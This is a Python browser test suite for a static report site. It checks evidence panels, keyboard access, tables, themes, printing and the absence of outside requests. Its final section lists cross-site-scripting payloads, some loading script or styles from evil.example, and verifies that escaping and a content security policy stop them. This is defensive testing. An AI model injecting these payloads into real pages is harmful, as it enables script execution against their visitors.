"""Finished pages in a real browser: what opens when something is clicked, and that nothing hostile runs or gets out."""

from __future__ import annotations

import copy
import functools
import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from tests.unit.report.report_samples import SITE, code, display, figure, finding, markdown, notebook, sample_notebooks, table

from helpers.report import SiteInfo, build_site

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

_DESKTOP = {"width": 1280, "height": 900}
_PHONE = {"width": 390, "height": 844}


@dataclass
class _Watched:
    """A page with everything that it said or asked for."""

    page: Page
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def open(self, address: str) -> Page:
        self.page.goto(address)
        self.page.wait_for_selector("html[data-ready]")
        return self.page


def _watch(browser: Browser, **options: Any) -> _Watched:
    page = browser.new_context(**({"viewport": _DESKTOP} | options)).new_page()
    watched = _Watched(page)
    page.on("console", lambda message: watched.said.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: watched.said.append(f"error: {error}"))
    page.on("request", lambda request: watched.asked.append(request.url))
    return watched


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("site")
    build_site(sample_notebooks(), SITE, out)
    return out


@pytest.fixture
def troops(browser: Browser, site: Path) -> Iterator[Page]:
    watched = _watch(browser)
    yield watched.open((site / "04_troop_numbers.html").as_uri())
    assert watched.said == []
    watched.page.context.close()


def _marked(page: Page) -> list[str]:
    return page.locator("#evidence mark").all_inner_texts()


def _outside(asked: list[str], site: Path) -> list[str]:
    return [url for url in asked if not url.startswith((site.as_uri(), "data:", "blob:"))]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("viewport", [_DESKTOP, _PHONE], ids=["desktop", "phone"])
def test_every_page_is_quiet_and_stays_in_its_folder(browser, site, scheme, viewport):
    watched = _watch(browser, viewport=viewport, color_scheme=scheme)
    for path in sorted(site.glob("*.html")):
        page = watched.open(path.as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= viewport["width"], path.name
        charts = page.locator("[data-chart]").count()
        assert page.locator("[data-chart] .main-svg").count() >= charts
    assert watched.said == []
    assert _outside(watched.asked, site) == []
    watched.page.context.close()


def test_a_site_on_a_server_works_the_same(browser, site):
    handler = functools.partial(_Quiet, directory=str(site))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    root = f"http://127.0.0.1:{server.server_address[1]}"
    watched = _watch(browser)
    try:
        page = watched.open(f"{root}/04_troop_numbers.html")
        page.locator(".prose .number").first.click()
        assert _marked(page) == ["2,400"]
    finally:
        watched.page.context.close()
        server.shutdown()
        server.server_close()
    assert watched.said == []
    assert [url for url in watched.asked if not url.startswith((root, "data:"))] == []


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


def test_a_click_on_a_number_opens_its_sentences_and_escape_goes_back(troops):
    number = troops.locator("#troops-over-time .prose .number", has_text="2,500")
    number.click()
    panel = troops.locator("#evidence")
    assert panel.is_visible()
    assert _marked(troops) == ["about 2,500 troops", "Some 2,500 US troops"]
    assert troops.locator("#evidence-count").inner_text() == "2 of 812 shown"
    assert troops.locator(".source-outlet").all_inner_texts() == ["Sample Wire Service", "Sample Washington Ledger"]
    assert troops.locator(".source-date").first.inner_text() == "25 January 2024"
    assert troops.locator(".source-file").first.inner_text() == "briefs/wire-0125.txt"
    link = troops.locator(".source-title a").first
    assert link.get_attribute("href") == "https://wire.example/a1"
    assert link.get_attribute("rel") == "noopener noreferrer"
    troops.keyboard.press("Escape")
    assert not panel.is_visible()
    assert number.evaluate("node => node === document.activeElement")


def test_a_click_on_a_cell_opens_its_sentence(troops):
    troops.locator("#troops-over-time td .number", has_text="900").first.click()
    assert _marked(troops) == ["900"]


def test_offsets_count_characters_even_after_an_emoji(troops):
    troops.locator("#attacks .prose .number").click()
    assert _marked(troops) == ["Three American soldiers"]


def _click_point(page: Page, chart: str, trace: int, point: int) -> None:
    """Click where the chart library drew a point of a trace."""
    script = """([chart, trace, point]) => {
        const node = document.querySelector(`[data-chart="${chart}"]`);
        node.scrollIntoView({block: "center", behavior: "instant"});
        const shown = node.querySelectorAll(".trace")[trace].querySelectorAll(".point")[point];
        const box = shown.getBoundingClientRect();
        return [box.x + box.width / 2, box.y + box.height / 2];
    }"""
    page.mouse.click(*page.evaluate(script, [chart, trace, point]))


def test_a_click_on_a_point_of_the_chart_opens_its_sentence(troops):
    _click_point(troops, "troops-over-time", 0, 1)
    assert _marked(troops) == ["2,400"]
    assert troops.locator("#evidence-title").inner_text() == "Iraq · 11 February 2024 · 2,400"
    troops.keyboard.press("Escape")
    _click_point(troops, "attacks", 0, 1)
    assert troops.locator("#evidence-title").inner_text() == "25 July: Ain al-Asad"
    assert _marked(troops) == [
        "Four rockets were fired towards Ain al-Asad air base on Thursday night, and none of them did any damage."
    ]


def test_the_keyboard_reaches_a_number_a_cell_and_every_point(troops):
    troops.keyboard.press("Tab")
    assert troops.evaluate("document.activeElement.className") == "skip"
    number = troops.locator("#troops-over-time .prose .number").first
    number.focus()
    troops.keyboard.press("Enter")
    assert _marked(troops) == ["2,400"]
    assert troops.evaluate("document.activeElement.id") == "evidence-close"
    troops.keyboard.press("Enter")
    assert number.evaluate("node => node === document.activeElement")
    troops.locator("#troops-over-time td .number").first.focus()
    troops.keyboard.press("Space")
    assert _marked(troops) == ["about 2,500 troops", "Some 2,500 US troops"]
    troops.keyboard.press("Escape")
    summary = troops.locator("#troops-over-time .chart-data summary")
    summary.focus()
    troops.keyboard.press("Enter")
    rows = troops.locator("#troops-over-time .chart-rows tbody tr")
    rows.first.wait_for()
    assert rows.count() == 4
    assert rows.nth(3).inner_text().split("\t") == ["Syria", "25 January 2024", "900", "1 source"]
    rows.nth(3).locator("button").focus()
    troops.keyboard.press("Enter")
    assert _marked(troops) == ["900"]


def test_a_long_table_folds_sorts_and_filters(troops):
    block = troops.locator("#troops-over-time .table-block")
    rows = block.locator("tbody tr:visible")
    assert rows.count() == 10
    block.locator(".expand").click()
    assert rows.count() == 24
    block.locator("th", has_text="Troops").locator("button").click()
    assert block.locator("th", has_text="Troops").get_attribute("aria-sort") == "descending"
    counts = [int(text.replace(",", "")) for text in block.locator("tbody td.number").all_inner_texts()]
    assert counts == sorted(counts, reverse=True)
    block.locator("th", has_text="Troops").locator("button").press("Enter")
    counts = [int(text.replace(",", "")) for text in block.locator("tbody td.number").all_inner_texts()]
    assert counts == sorted(counts)
    block.locator("input").fill("syria")
    assert rows.count() == 8
    assert block.locator(".table-status").inner_text() == "8 rows match"


def test_the_theme_button_changes_page_and_charts_and_is_remembered(browser, site):
    watched = _watch(browser, color_scheme="light")
    page = watched.open((site / "04_troop_numbers.html").as_uri())
    look = "[getComputedStyle(document.body).backgroundColor, document.querySelector('[data-chart] .xtick text').style.fill]"
    light = page.evaluate(look)
    page.locator("#theme").click()
    dark = page.evaluate(look)
    assert light[0] != dark[0]
    assert light[1] != dark[1]
    assert page.locator("#theme").get_attribute("aria-pressed") == "true"
    watched.open((site / "index.html").as_uri())
    assert page.locator("html").get_attribute("data-theme") == "dark"
    assert watched.said == []
    page.context.close()


def _one_chart(out: Path, chart: dict[str, Any]) -> str:
    build_site([notebook("01_one", [code("one()", 1, display(finding(), chart))])], SITE, out)
    return (out / "01_one.html").as_uri()


def test_a_chart_is_as_high_as_it_asks_for_and_its_legend_has_room_on_a_phone(browser, tmp_path):
    chart = figure()
    chart["layout"] |= {"height": 300, "margin": {"t": 36, "l": 8}, "meta": {"narrow": {"height": 260}}}
    chart["layout"]["legend"] = {"orientation": "h", "x": 0, "xref": "container", "y": 1, "yref": "container", "yanchor": "top"}
    names = [f"a side with a long name {letter}" for letter in "abcdef"]
    chart["data"] = [{**chart["data"][0], "name": name, "showlegend": True} for name in names]
    address = _one_chart(tmp_path, chart)
    for viewport, least, most in ((_DESKTOP, 300, 345), (_PHONE, 320, 420)):
        watched = _watch(browser, viewport=viewport)
        page = watched.open(address)
        box = page.locator("[data-chart]").bounding_box()
        assert least <= box["height"] <= most
        legend = page.locator(".legend").bounding_box()
        plot = page.locator(".nsewdrag").first.bounding_box()
        assert legend["y"] + legend["height"] <= plot["y"] + 8
        assert watched.said == []
        page.context.close()


def test_long_names_of_rows_are_cut_on_a_phone_and_stay_whole_on_a_desk(browser, tmp_path):
    chart = figure()
    name = "Joint Commission of A &amp; B on a Very Long Matter"
    chart["layout"]["yaxis"] = {"tickmode": "array", "tickvals": [2400], "ticktext": [name]}
    address = _one_chart(tmp_path, chart)
    for viewport, shown in ((_DESKTOP, "Joint Commission of A & B on a Very Long Matter"), (_PHONE, "Joint Commission of…")):
        watched = _watch(browser, viewport=viewport)
        page = watched.open(address)
        assert page.locator(".ytick text").all_text_contents() == [shown]
        page.context.close()


def test_paper_has_charts_and_the_addresses_of_its_articles_and_no_navigation(browser, site):
    watched = _watch(browser, viewport={"width": 700, "height": 900}, color_scheme="dark")
    page = watched.open((site / "04_troop_numbers.html").as_uri())
    page.emulate_media(media="print")
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    assert not page.locator(".chapters").is_visible()
    assert page.locator("[data-chart] .main-svg").first.is_visible()
    listed = page.locator("#printed-sources li").all_inner_texts()
    assert any("Sample Wire Service" in line and "https://wire.example/a1" in line for line in listed)
    assert page.locator(".table-status").first.inner_text() == "10 of 24 rows are printed."
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    page.emulate_media(media="screen")
    assert not page.locator("#printed-sources").is_visible()
    assert watched.said == []
    page.context.close()


def test_a_figures_own_list_of_changes_is_applied(browser, tmp_path):
    themes = {
        "light": {"layout": {}, "traces": [{"marker.color": "#0000ff"}]},
        "dark": {"layout": {"annotations[0].font.color": "#00ff00"}, "traces": [{"marker.color": "#ff0000"}]},
    }
    chart = figure()
    chart["layout"]["annotations"] = [{"text": "here", "x": "2024-05-01", "y": 2000, "showarrow": False}]
    cells = [code("one()", 1, display(finding(themes=themes), chart))]
    build_site([notebook("01_one", cells)], SITE, tmp_path)
    watched = _watch(browser, color_scheme="dark")
    page = watched.open((tmp_path / "01_one.html").as_uri())
    assert page.locator(".trace .point").first.evaluate("node => node.style.fill") == "rgb(255, 0, 0)"
    assert page.locator(".annotation-text").first.evaluate("node => node.style.fill") == "rgb(0, 255, 0)"
    page.locator("#theme").click()
    assert page.locator(".trace .point").first.evaluate("node => node.style.fill") == "rgb(0, 0, 255)"
    page.context.close()


# ---- hostile text ----

_PAYLOADS = [
    "<script>document.title='pwned1'</script>",
    "</script><script>document.title='pwned2'</script>",
    "<img src=x onerror=\"document.title='pwned3'\">",
    "<svg/onload=document.title='pwned4'>",
    "javascript:document.title='pwned5'",
    "\" onmouseover=\"document.title='pwned6'\" autofocus onfocus=\"document.title='pwned6'\" x=\"",
    "{{ 7*7 }}{% raw %}${document.title='pwned7'}",
    "<a href=\"javascript:document.title='pwned8'\">press</a>",
    "-->]]><iframe srcdoc=\"<script>parent.document.title='pwned9'</script>\"></iframe>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/y.css>",
    "\u2028</ScRiPt ><sCrIpT src=https://evil.example/z.js>",
]  # fmt: skip


def _hostile_finding(text: str, number: int) -> list[dict[str, Any]]:
    """Cells in which one payload stands in every place of a finding where an article's or author's text can."""
    payload = finding(question=text, caveat=text, figure_alt=text, id=f"{number}-{text}")
    words = text.translate({ord(digit): None for digit in "0123456789"})
    payload["prose"] = [{"name": text}, {"text": words}, {"number": text, "evidence": "e1"}]
    payload["cards"] = [{"label": text, "value": text, "evidence": "e1", "note": text}]
    content = table(3)
    content["caption"] = text
    content["columns"].append({"key": "link", "label": text, "align": "left", "kind": "link"})
    link = {"text": text, "evidence": None, "sort": None}
    content["rows"] = [[*({**cell, "text": text, "sort": text} for cell in row), link] for row in content["rows"]]
    payload["table"] = content
    payload["sources"] = {f"{number}{name}": source for name, source in payload["sources"].items()}
    payload["evidence"] = {
        key: [{**span, "s": f"{number}{span['s']}"} for span in spans] for key, spans in payload["evidence"].items()
    }
    for source in payload["sources"].values():
        source.update(dict.fromkeys(("title", "outlet", "document", "url", "published", "text"), text))
    chart = copy.deepcopy(figure())
    chart["data"][0] |= {"name": text, "hovertext": [text] * 3, "text": [text] * 3, "mode": "markers+text", "hoverinfo": "text"}
    chart["layout"] |= {
        "title": {"text": text},
        "xaxis": {"title": {"text": text}},
        "annotations": [{"text": text, "x": "2024-05-01", "y": 2000, "hovertext": text}],
    }
    printed = {"output_type": "stream", "name": "stdout", "text": text}
    foreign = {"output_type": "display_data", "metadata": {}, "data": {"text/html": text, "text/plain": text}}
    return [markdown(f"## {text}\n\n{text}"), code(f"print({text!r})", number, printed, foreign, display(payload, chart))]


def _hostile_site(texts: list[str], out: Path) -> None:
    cells = [cell for number, text in enumerate(texts, start=1) for cell in _hostile_finding(text, number)]
    everything = " ".join(texts)
    build_site(
        [notebook("01_hostile", [markdown(f"# {everything}\n\n{everything}"), *cells])],
        SiteInfo(everything, everything, "run-1", everything, everything),
        out,
    )


def _exercise(page: Page) -> None:
    """Open and touch everything that shows text, the rows of the charts' tables as well, which are made when they open."""
    page.evaluate("document.querySelectorAll('details').forEach(node => { node.open = true; })")
    page.wait_for_selector(".chart-rows button")
    opened = page.evaluate(
        """() => [...document.querySelectorAll("button.number")].map(button => {
            button.click();
            const dialog = document.getElementById("evidence");
            const shown = dialog.open && dialog.querySelectorAll(".source").length > 0;
            dialog.close();
            return shown;
        })"""
    )
    assert opened
    assert all(opened)
    page.evaluate("document.querySelectorAll('button.sort').forEach(button => button.click())")
    for chart in page.locator("[data-chart]").all():
        chart.hover()


def test_no_payload_runs_from_any_place(browser, tmp_path):
    _hostile_site(_PAYLOADS, tmp_path)
    watched = _watch(browser)
    for name in ("01_hostile.html", "index.html"):
        page = watched.open((tmp_path / name).as_uri())
        before = page.title()
        _exercise(page)
        page.wait_for_timeout(100)
        assert page.title() == before
        forbidden = "a[href^='javascript' i], iframe, object, embed, img, main script, main style, main link"
        assert page.locator(forbidden).count() == 0
        handlers = "[...document.querySelectorAll('*')].filter(n => [...n.attributes].some(a => /^on/i.test(a.name))).length"
        assert page.evaluate(handlers) == 0
    assert watched.said == []
    assert _outside(watched.asked, tmp_path) == []
    page.context.close()


@pytest.mark.parametrize("text", [_PAYLOADS[0], _PAYLOADS[2], _PAYLOADS[3]], ids=["script", "img", "svg"])
def test_the_detector_sees_a_payload_that_does_run(browser, tmp_path, text):
    """The same payloads on a page without the policy and without escaping: the test above would fail."""
    _hostile_site(["calm"], tmp_path)
    path = tmp_path / "01_hostile.html"
    html = path.read_text(encoding="utf-8").replace("Content-Security-Policy", "x-nothing").replace("</main>", f"{text}</main>")
    path.write_text(html, encoding="utf-8")
    watched = _watch(browser)
    page = watched.open(path.as_uri())
    page.wait_for_function("document.title.startsWith('pwned')")
    page.context.close()


def test_the_policy_alone_stops_what_escaping_would_have_missed(browser, tmp_path):
    _hostile_site(["calm"], tmp_path)
    path = tmp_path / "01_hostile.html"
    path.write_text(path.read_text(encoding="utf-8").replace("</main>", "".join(_PAYLOADS[:4]) + "</main>"), encoding="utf-8")
    watched = _watch(browser)
    page = watched.open(path.as_uri())
    page.wait_for_timeout(200)
    assert not page.title().startswith("pwned")
    assert any("Content Security Policy" in line for line in watched.said)
    page.context.close()
